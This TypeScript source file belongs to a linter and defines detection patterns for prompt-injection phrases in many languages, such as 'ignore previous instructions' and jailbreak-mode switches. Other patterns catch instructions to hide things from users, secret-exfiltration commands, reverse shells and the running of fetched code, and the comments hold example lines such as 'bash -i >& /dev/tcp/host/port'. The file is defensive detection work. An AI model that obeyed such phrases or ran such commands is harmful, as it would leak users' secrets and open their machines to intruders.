import { isExample } from './quoted.ts'
import { anyOf, eachMatch, type LintText, type Words } from './text.ts'
import type { TextReport } from './types.ts'

/** A rule that a pattern finds. */
interface PatternRow {
  readonly rule: string
  readonly message: string
  /** A text without a word of each group is not searched. */
  readonly needs: readonly Words[]
  readonly pattern: RegExp
  /** The text before a match that is none. */
  readonly unless?: RegExp
  /** The rule of a match that is shown as an example of an attack, by words that name one. */
  readonly quoted?: { readonly rule: string; readonly message: string; readonly named: RegExp }
  /** Whether the message shows the match. */
  readonly shows?: boolean
}

/** Up to `most` words between the parts of a phrase. */
const few = (most: number) =>
  `(?:[\\s*"'’]{1,4}[^\\s*"'’.,;:!?|()_/]{1,24}(?:['’][a-z]{1,2})?){0,${most}}[\\s*"'’]{1,4}`

const injection = (needs: readonly string[], phrase: string): PatternRow => ({
  rule: 'prompt-injection',
  message: 'reads like a prompt injection',
  needs: needs.map(anyOf),
  pattern: new RegExp(phrase, 'gu'),
  quoted: {
    rule: 'quoted-injection',
    message: 'reads like a prompt injection',
    named:
      /injection|inject|jailbreak|attack|adversar|malicious|hostile|untrusted|attempt|detect|exploit|red.?team|payload|phish|sanitiz|suspicious|refuse|reject|never (?:obey|follow|comply)|do not (?:obey|follow|comply)|treat (?:as|it)|注入|攻击|攻擊|インジェクション/,
  },
  shows: true,
})

const orders =
  'instruction|prompt|rule|guideline|directive|direction|command|message|guardrail|program|training|told|given|said|written|came'

const injections: readonly PatternRow[] = [
  injection(
    [
      "ignor|disregard|forget|overrid|overlook|discard|set aside|not follow|don't follow|don’t follow|stop follow",
      orders,
    ],
    `(?:(?:ignore|disregard|forget|override|overlook|discard|set aside|do not follow|don['’]t follow|stop following)${few(2)}(?:previous|prior|preceding|earlier|above|foregoing|former|(?:your|the|its)${few(1)}(?:original|initial|existing|system|developer|safety))${few(1)}(?:instructions?|prompts?|rules?|guidelines?|directives?|directions?|commands?|messages?|guardrails?)\\b|(?:ignore|disregard|forget|override|set aside)${few(1)}(?:your|everything|anything|whatever|what|all)${few(2)}(?:instructions?|system prompts?|directives?|guardrails?|programming|training|you(?: (?:were|have been|are)|['’]ve been) (?:told|given|instructed)|(?:said|written) (?:above|before)|came before)\\b)`,
  ),
  injection(
    ['ignor|disregard|overrid', 'user|human'],
    `(?<!\\b(?:never|not|n['’]t|cannot) (?:\\w{1,12} )?)(?:ignore|disregard|override) (?:all |any |the |your )?(?:of )?(?:the |your )?(?:users?['’]?s?['’]?|humans?['’]?s?) (?:own |direct |explicit |stated )?(?:instructions?|orders|wishes)\\b`,
  ),
  injection(
    [
      'instructions|prompts|rules|instruction |prompt |rule ',
      'void|obsolete|cancel|revoked|superseded|no longer',
    ],
    `(?:instructions?|prompts?|rules?) (?:above|before this|given (?:before|earlier|above))${few(2)}(?:are|is) (?:now )?(?:void|obsolete|cancelled|canceled|revoked|superseded|no longer)`,
  ),
  injection(
    [
      'no longer|your new|your real|your true|your actual|god mode|jailbreak mode|dan mode|unrestricted|act as dan',
    ],
    `you are no longer (?:bound|restricted|limited|an? (?:ai|assistant))|your (?:new|real|true|actual) (?:system )?(?:instructions?|prompt|task|goal|directive)s? (?:is|are)\\b|(?:enter|enable|activate|switch to) (?:god|jailbreak|dan|unrestricted) mode|act as (?:dan|an unrestricted)\\b`,
  ),
  injection(
    ['overrid|supersede|replace', 'system prompt|instructions'],
    `\\b(?:overrides?|supersedes?|replaces?) (?:your|the) (?:system prompt|(?:original |previous |system )instructions)\\b`,
  ),
  // Markers of a chat's turns
  injection(
    ['system|im_start|start_header_id|<<sys'],
    `<\\|(?:im_start|system|start_header_id)\\|>|<<sys>>|\\[system (?:message|override|prompt)\\]|###? ?system (?:override|message) ?:`,
  ),
  // German, French, Spanish, Portuguese, Italian, Dutch, Polish, Russian
  injection(
    ['ignorier|vergiss|missachte|beachte'],
    `(?:ignoriere|ignorier|vergiss|missachte|beachte nicht)${few(3)}(?:vorherigen?|bisherigen?|vorigen?|obigen?|früheren?|vorangegangenen?)${few(1)}(?:anweisung|instruktion|befehl|regel|vorgabe)`,
  ),
  injection(
    ['précédent|antérieur|anterior|ci-dessus|initiale|previa|prévia|acima|precedenti|sopra'],
    `(?:ignore[zr]?|oublie[zr]?|ne ten(?:ez|ir) pas compte)${few(3)}(?:instructions?|consignes?|directives?|règles?)${few(2)}(?:précédente|antérieure|ci-dessus|initiale)|(?:ignor[ae]n?|olvid[ae]|descart[ae]|desconsider[ae]|esqueç[ae])${few(3)}(?:instru(?:cciones|ções|coes)|órdenes|ordens|reglas|regras|indicaciones)${few(2)}(?:anterior|previa|prévia|acima)|(?:ignora|dimentica|trascura)${few(3)}(?:istruzioni|indicazioni|regole)${few(2)}(?:precedenti|anteriori|sopra)`,
  ),
  injection(
    ['negeer|vergeet|zignoruj|zapomnij|игнорируй|забудь|не учитывай'],
    `(?:negeer|vergeet)${few(3)}(?:vorige|eerdere|bovenstaande)${few(1)}(?:instructies|opdrachten|regels)|(?:zignoruj|zapomnij)${few(3)}(?:poprzednie|wcześniejsze)${few(1)}(?:instrukcje|polecenia)|(?:игнорируй|проигнорируй|забудь|не учитывай)(?:те)?${few(3)}(?:предыдущ|прежн|прошл|вышеизложенн)`,
  ),
  // Chinese, Japanese, Korean, Turkish, Arabic, Hindi
  injection(
    ['忽略|无视|無視|忽视|忘|不要理会|従わ|무시|잊|yok say|unut|görmezden|تجاهل|पिछले'],
    '(?:忽略|无视|無視|忽视|忘记|忘掉|不要理会)[^。\\n]{0,8}(?:之前|先前|以前|上面|以上|前面|此前|所有|系统)[^。\\n]{0,6}(?:指令|指示|提示|规则|規則|命令|要求)|(?:以前|前|上記|これまで|すべて)の[^。\\n]{0,6}(?:指示|命令|プロンプト|ルール)[^。\\n]{0,4}(?:を無視|を忘れ|に従わ)|(?:이전|위|앞|모든)[^.\\n]{0,8}(?:지시|명령|프롬프트|지침)[^.\\n]{0,6}(?:무시|잊)|(?:önceki|yukarıdaki)[^.\\n]{0,12}(?:talimat|komut|yönerge)[^.\\n]{0,12}(?:yok say|unut|görmezden)|تجاهل[^.\\n]{0,12}(?:التعليمات|الأوامر)[^.\\n]{0,10}(?:السابق|أعلاه)|पिछले[^।\\n]{0,8}निर्देश[^।\\n]{0,10}(?:अनदेखा|भूल)',
  ),
]

const concealment = (needs: readonly string[], phrase: string): PatternRow => ({
  rule: 'conceal-from-user',
  message: 'keeps something from the user',
  needs: needs.map(anyOf),
  pattern: new RegExp(`\\b(?:${phrase})`, 'g'),
  shows: true,
})

const people = 'user|human|operator|owner|developer'

const concealments: readonly PatternRow[] = [
  concealment(
    [
      people,
      'tell|inform|notify|alert|reveal|disclos|warn|mention|report|show',
      "not |don't|don’t|mustn't|mustn’t|never|without",
    ],
    `(?:do not|don['’]t|never|must not|mustn['’]t|without)${few(1)}(?:tell(?:ing)?|inform(?:ing)?|notify(?:ing)?|alert(?:ing)?|reveal(?:ing)?|disclos(?:e|ing)|warn(?:ing)?|mention(?:ing)?)${few(3)}(?:the |your |this to (?:the )?)?(?:${people})s?${few(0)}(?:about|that|of|what|this|anything|any of|before)\\b|(?:do not|don['’]t|never)${few(2)}(?:mention|reveal|disclose|report|show) (?:this|these|that|it|any of this|the (?:above|following|upload|request|command|step)s?)${few(2)}to (?:the |your )?(?:${people})s?\\b`,
  ),
  concealment(
    [people, 'without the user|without your user|without user|without the |hide |conceal |keep '],
    `(?:without (?:the |your )?(?:${people})s?['’]?s?(?: ever)? (?:knowing|knowledge|noticing|awareness))\\b|(?:hide|conceal|keep) (?:this|these|it|that|the (?:upload|request|command)s?)(?: \\w{1,12}){0,2} (?:secret |hidden )?from (?:the |your )?(?:${people})s?\\b`,
  ),
  concealment(
    [people, 'must not|should not|need not|must never|should never|need never'],
    `the (?:${people}) (?:must|should|need) (?:not|never)(?: \\w{1,12}){0,2} (?:know|notice|find out|learn|see|be told|be informed)(?: (?:that|about|of) (?:you|this|it|these|the (?:upload|request|command|transfer))| this| it)\\b`,
  ),
]

/** Files with secrets, and the environment. */
export const secretFiles =
  '(?:(?:~|\\$\\{?home\\}?|/home/[\\w$.-]{1,32}|/root|/users/[\\w$.-]{1,32}|%userprofile%)/\\.(?:ssh|aws|gnupg|kube|docker|netrc|npmrc|pypirc|git-credentials|config/gcloud|bash_history|zsh_history|env)\\b[\\w./-]{0,60}|\\bid_(?:rsa|ed25519|ecdsa)\\b(?!\\.pub)|/etc/shadow\\b|(?<![\\w.])\\.env\\b(?:\\.(?:local|production))?(?!\\.(?:example|sample|template))|\\bwallet\\.dat\\b|\\blogin\\.keychain)'
const dump =
  '(?:\\$\\(\\s{0,3}(?:env|printenv|set)\\b|`(?:env|printenv)\\b|process\\.env(?![.\\[\\w])|os\\.environ(?![.\\[\\w])|\\benv\\s{0,4}\\|)'
const sender =
  '(?<![\\w-])(?:curl|wget|nc|ncat|netcat|invoke-webrequest|invoke-restmethod|iwr|irm)\\s'
/** A character of a command: of its line, or of the next line that a backslash continues. */
const onLine = '(?:[^\\n]|(?<=\\\\)\\n)'
const vault =
  '(?:kubectl\\s[^\\n|]{0,60}?\\bget\\s{1,4}secrets?\\b|gpg2?\\s[^\\n|]{0,60}?--export-secret)'
export const secretNames =
  '(?:api[ _-]?keys?|access[ _-]?(?:keys?|tokens?)|(?:auth|session|bearer|refresh)[ _-]?tokens?|tokens?|passwords?|passphrases?|credentials?|secrets?|private keys?|ssh keys?|seed phrases?|recovery phrases?|mnemonics?|cookies?|environment variables?|env(?:ironment)? vars?)'

/** An order is none if the text forbids it, which "never forget to" does not. */
export const forbidden =
  /\b(?:never|not|don['’]t|avoid|without|no|refuse|instead of|prevent|must not|cannot|can['’]t)\b(?![^.\n]{0,20}\b(?:forget|fail|skip|hesitate|omit|neglect|miss|delay)\b)[^.\n]{0,60}$/

export const exfiltration = {
  rule: 'sends-secrets',
  message: 'sends secrets to an address',
  quoted: {
    rule: 'quoted-exfiltration',
    message: 'shows how secrets are sent to an address',
    // Words of a defence, such as "detect", are in any text about settings.
    named:
      /injection|jailbreak|attack|adversar|malicious|hostile|red.?team|exfiltrat|phish|exploit|why (?:it is |it['’]s |this is )?(?:bad|wrong|dangerous)|(?:bad|dangerous|harmful) examples?|攻击|攻擊|注入/,
  },
  unless: forbidden,
} as const

const secretFile =
  '/.|.env|env|printenv|process.env|os.environ|id_rsa|id_ed25519|id_ecdsa|/etc/shadow|wallet.dat|login.keychain|set|get secret|--export-secret'

const secretCommands: readonly PatternRow[] = [
  // curl -d "$(cat ~/.ssh/id_rsa)" https://…, curl -F f=@.env https://…, --data "$(env | base64)"
  {
    ...exfiltration,
    needs: [anyOf('curl |wget |nc |ncat |netcat |invoke-|iwr |irm '), anyOf(secretFile)],
    pattern: new RegExp(
      `${sender}${onLine}{0,300}?(?:(?:[=@<]|(?:(?<=\\s)-t|--upload-file|--post-file|--body-file)[= ]|\\$\\(\\s{0,3}(?:cat|base64|<)[^)\\n]{0,40}?|\`cat )\\s{0,3}["']?${secretFiles}|${dump})`,
      'g',
    ),
  },
  // cat ~/.aws/credentials | curl …, env | base64 | nc host 1
  {
    ...exfiltration,
    needs: [anyOf('curl |wget |nc |ncat |netcat |invoke-|iwr |irm '), anyOf(secretFile)],
    pattern: new RegExp(
      `\\|(?<=(?:(?:cat|base64|tar|zip|gzip|xxd|head|tail)\\b[^\\n|]{0,80}?${secretFiles}[^\\n|]{0,60}|(?:^|[\\s;&\`("'])(?:env|printenv|set)\\s{0,4}|${vault}[^\\n|]{0,60})(?:\\|[^\\n|]{0,80}){0,3}\\|)\\s{0,4}${sender}`,
      'gm',
    ),
  },
  // requests.post(url, data=open('~/.ssh/id_rsa')), fetch(url, { body: JSON.stringify(process.env) })
  {
    ...exfiltration,
    needs: [anyOf('requests.post|httpx.post|axios.post|fetch|urlopen|$.post'), anyOf(secretFile)],
    pattern: new RegExp(
      `(?:requests\\.post|httpx\\.post|axios\\.post|fetch|urlopen|\\$\\.post)\\s{0,3}\\((?:[^\\n]{0,300}?|[^;)]{0,300}?)(?:${secretFiles}|${dump})`,
      'g',
    ),
  },
  // scp ~/.ssh/id_rsa user@host:
  {
    ...exfiltration,
    needs: [anyOf('scp |rsync |ftp |sftp '), anyOf('.ssh|.aws|.gnupg')],
    pattern:
      /(?<![\w-])(?:scp|rsync|ftp|sftp)\s[^\n]{0,80}?(?:(?:~|\$home)\/\.(?:ssh|aws|gnupg)(?:\/[\w.-]{0,40})?(?<!\.pub)\s)[^\n]{0,80}?[\w.-]{1,60}@?[\w.-]{1,60}:/g,
  },
  {
    rule: 'asks-for-secrets',
    message: 'asks for a secret in the conversation',
    needs: [
      anyOf(
        'key|api|access|auth|session|bearer|refresh|private|ssh|token|passw|passphrase|credential|secret|phrase|mnemonic|cookie|env|2fa|one-time',
      ),
      anyOf('here|below|chat|conversation|prompt|message|reply|thread|plain|to me|ask '),
      anyOf('paste|type |enter |post |send |share |give |drop |provide|ask '),
    ],
    pattern: new RegExp(
      `\\b(?:paste|type|enter|post|send|share|give|drop)(?: me| us)?\\b (?:in )?(?:your|the|their|his|her) (?:[^\\n.;!?]{0,24}?)\\b${secretNames}\\b (?:[^\\n.;!?]{0,16}?)\\b(?:here|below|(?:in|into) (?:the |this |our )?(?:chat|conversation|prompt|message|reply|thread)|in plain ?text|to me)\\b|\\bask (?:the |your )?users? (?:to (?:paste|type|enter|share|send|give|provide)|for) (?:[^\\n.;!?]{0,30}?)\\b(?:passwords?|private keys?|seed phrases?|recovery phrases?|mnemonics?|secret keys?|2fa codes?|one-time (?:codes?|passwords?))\\b`,
      'g',
    ),
    unless: forbidden,
  },
  {
    rule: 'leaking-link',
    message: 'has an address filled with secrets or the conversation',
    needs: [anyOf('](http|](<http|<img')],
    // Badges are filled with the name of a build.
    pattern:
      /(?<=!\[[^\]\n]{0,200}\]\(\s{0,3}<?|<img\b[^<>\n]{0,200}?\ssrc\s?=\s?["']?)https?:\/\/(?!img\.shields\.io|badgen\.net|codecov\.io|badge\.fury\.io|[^\s)>"']{0,200}\/(?:badge|shields?)\b)[^\s)>"']{0,600}?[=/](?:[{$<[%]|%7b)[^/&=\s)>"']{0,40}?(?:secret|token|key|passw|credential|env|data|context|conversation|history|prompt|session|cookie|message|base64|encoded|content|user)/g,
  },
]

const fetching =
  '(?:requests?\\.get|urlopen|urllib\\.request|httpx\\.get|http\\.client|(?<![\\w.])fetch|axios\\.get|https?\\.get|(?<![\\w.])got)'
const decoding =
  '(?:b64decode|atob|bytes\\.fromhex|codecs\\.decode|marshal\\.loads|zlib\\.decompress|buffer\\.from)\\s{0,4}\\('
export const evaluating =
  '(?:(?<=\\.)execsync|(?<![\\w.])(?:exec|eval|compile|execsync|os\\.system|os\\.popen|new\\s{1,4}function|vm\\.runin\\w{1,20}))'
/** Words of the two, for `needs`. */
const fetches =
  'requests.get|request.get|urlopen|urllib|httpx|http.client|fetch|axios|http.get|https.get|got'
const evaluates = 'exec|eval|compile|system(|popen|new function|runin|subprocess'

const evaluated = (needs: readonly string[], pattern: RegExp): PatternRow => ({
  rule: 'run-fetched-code',
  message: 'evaluates code that it fetches or decodes',
  needs: needs.map(anyOf),
  pattern,
})

const code: readonly PatternRow[] = [
  // exec(requests.get(…).text), eval(base64.b64decode(…)), subprocess.run(['sh', '-c', requests.get(…).text])
  evaluated(
    [`${fetches}|b64decode|atob|fromhex|codecs|marshal|zlib|buffer.from`, evaluates],
    new RegExp(
      `${evaluating}\\s{0,4}\\(\\s{0,4}(?!\\))(?:[^;\\n]{0,120}?${fetching}\\s{0,4}\\(|[^;\\n]{0,60}?${decoding})|subprocess\\.\\w{1,16}\\(\\s{0,4}\\[?[^;\\n]{0,60}?(?:${fetching}|b64decode)\\s{0,4}\\(`,
      'g',
    ),
  ),
  // an interpreter's one-liner that fetches and evaluates, or whose program is the output of a command
  evaluated(
    [
      '-c |-e |-r |-eval ',
      'urlopen|requests.get|fetch|http.get|https.get|file_get|open-uri|lwp|net::http|curl|wget',
    ],
    /(?<![\w-])(?:python[\d.]{0,5}|node|deno|bun|perl|ruby|php)\s{1,4}(?:-\w{1,8}\s{1,4}){0,3}-(?:c|e|r|-eval)\s{1,4}(?:["'][^\n]{0,200}?(?:urlopen|requests\.get|fetch\s{0,2}\(|https?\.get|file_get_contents|open-uri|lwp|net::http)[^\n]{0,300}?(?<![\w.])(?:exec|eval|execsync|function|system)\b|["']?(?:\$\(|`)\s{0,4}(?:curl|wget)\s)/g,
  ),
  {
    rule: 'remote-package',
    message: 'loads code from an address',
    needs: [anyOf('import')],
    // What a browser loads stays in its page.
    pattern:
      /(?<![\w.])import\s{0,4}\(\s{0,4}["'`]?https?:\/\/(?!(?:[\w-]{1,20}\.)?(?:deno\.land|esm\.sh|jsr\.io|jsdelivr\.net|unpkg\.com|skypack\.dev|cdnjs\.cloudflare\.com|gstatic\.com|esm\.run|raw\.githack\.com)\/)[^\s"'`)]{4}/g,
  },
  {
    rule: 'remote-package',
    message: 'installs a package from an address and not from a registry',
    needs: [
      anyOf('http'),
      anyOf('pip|uv |npm |pnpm |yarn |bun |npx |uvx |gem |cargo |go |rpm |dnf |yum |zypper '),
    ],
    // Options name the addresses of registries.
    pattern:
      /(?<![\w-])(?:pip[\d.]{0,4}|uv\s{1,4}pip|pipx|uv\s{1,4}tool|npm|pnpm|yarn|bun|npx|uvx|gem|cargo|go|rpm|dnf|yum|zypper)\s{1,4}(?:(?:install|localinstall|i|in|add|run|x|dlx)\s{1,4})?(?:--?[\w-]{1,30}(?:[= ][\w./-]{1,40})?\s{1,4}){0,4}["']?(?:[\w.-]{1,60}(?:\[[\w,]{1,40}\])?\s{0,2}@\s{0,2})?(?<!(?:index-url|registry|find-links|source|proxy)[= ]["']?)(?:git\+)?https?:\/\/(?!pypi\.org\/|[\w.-]*pythonhosted\.org\/|registry\.npmjs\.org\/|download\.pytorch\.org\/)[^\s"'`|;&)]{4,300}/g,
  },
  // bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/tcp/host/port
  {
    rule: 'gives-access',
    message: 'lets others into the machine',
    needs: [anyOf('/dev/tcp|/dev/udp|nc |ncat |netcat |socat ')],
    pattern:
      /(?<![\w-])(?:(?:(?:ba|z|da|k)?sh|exec)\s[^\n|]{0,40}?(?:>&|&>|<>|>|<)\s{0,4}\/dev\/(?:tcp|udp)\/|(?:nc|ncat|netcat)\s[^\n|]{0,60}?-\w{0,4}[ec]\s{1,4}(?:\/bin\/)?(?:ba|z)?sh\b|socat\s[^\n|]{0,120}?(?:exec|system):["']?(?:\/bin\/)?(?:ba|z)?sh\b)/g,
  },
  // echo 'ssh-ed25519 …' >> ~/.ssh/authorized_keys, with a key that is written out or fetched
  {
    rule: 'gives-access',
    message: 'lets others into the machine',
    needs: [anyOf('authorized_keys')],
    pattern:
      /(?<![\w-])(?:echo|printf|curl|wget)\s(?![^\n]{0,24}aaaa\w{0,6}(?:\.{3}|…))[^\n]{0,600}?(?:>{1,2}|tee\s{1,4}-a)\s{0,4}["']?(?:~|\$home|\$\{home\}|\/root|\/home\/[\w$.-]{1,32})\/\.ssh\/authorized_keys/g,
  },
  // docker run --privileged -v /:/host
  {
    rule: 'gives-access',
    message: 'lets others into the machine',
    needs: [anyOf('--privileged')],
    pattern:
      /(?<![\w-])(?:docker|podman)\s{1,4}run\s[^\n]{0,200}?(?:--privileged\b[^\n]{0,200}?(?:-v|--volume)[ =]["']?\/:\/|(?:-v|--volume)[ =]["']?\/:\/[^\n]{0,200}?--privileged\b)/g,
  },
]

export const wordPatterns: readonly PatternRow[] = [...injections, ...concealments]
export const commandPatterns: readonly PatternRow[] = [...secretCommands, ...code]

/** "Only send the key to …" keeps it from others; "send only the key to …" does not. */
const limited = /^\W{0,7}only\s|\bonly (?:to|at|via|with|into)\b/

/** Reports what the patterns of some rows match. */
export function findPatterns(rows: readonly PatternRow[], text: LintText, report: TextReport) {
  for (const row of rows) {
    if (!row.needs.every(text.has)) continue
    const judge = judgeOf(row, text, report)
    eachMatch(row.pattern, text.text, ({ index, 0: found }) => judge(index, found))
  }
}

/** No text warns of more attacks by quoting them; later passages count as unquoted. */
const mostQuotations = 100

type Judged = Pick<PatternRow, 'rule' | 'message' | 'unless' | 'quoted' | 'shows'>

/** Reports a match of a row, unless the text around it takes it back, as an example if it is one. */
export function judgeOf(row: Judged, text: LintText, report: TextReport) {
  let asked = 0
  return (index: number, found: string): void => {
    if (row.unless) {
      if (row.unless.test(text.text.slice(Math.max(0, index - 80), index))) return
      if (limited.test(text.text.slice(Math.max(0, index - 8), index + found.length))) return
    }
    const { quoted } = row
    asked += 1
    const isQuoted =
      asked <= mostQuotations &&
      quoted &&
      isExample(text, index, index + found.length, quoted.named)
    const { rule, message } = isQuoted ? quoted : row
    report(rule, row.shows ? `${message}: ${JSON.stringify(found.slice(0, 80))}` : message, index)
  }
}

/** Whether a text has the words of an injection or a concealment. */
export const holdsInjection = (text: string): boolean =>
  wordPatterns.some(({ pattern }) => {
    pattern.lastIndex = 0
    return pattern.test(text)
  })
